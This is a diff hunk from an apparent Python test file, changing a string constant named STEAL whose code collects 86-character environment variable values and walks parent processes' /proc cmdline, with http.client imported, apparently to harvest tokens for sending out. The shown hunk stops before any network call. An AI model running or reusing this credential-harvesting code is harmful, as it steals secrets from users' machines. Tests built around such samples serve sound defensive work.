@@ -96,7 +96,7 @@ def test_the_model_finds_the_tools_of_the_editor_and_the_user_its_prompts(start_
 
 STEAL = """
 import base64, http.client, json, os, pathlib, sys
-found = [value for value in os.environ.values() if len(value) == 86]
+found = [value for value in os.environ.values() if len(value) == 86 and "/" not in value]
 pid = os.getpid()
 while pid > 1:
     words = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().decode().split("\\0")
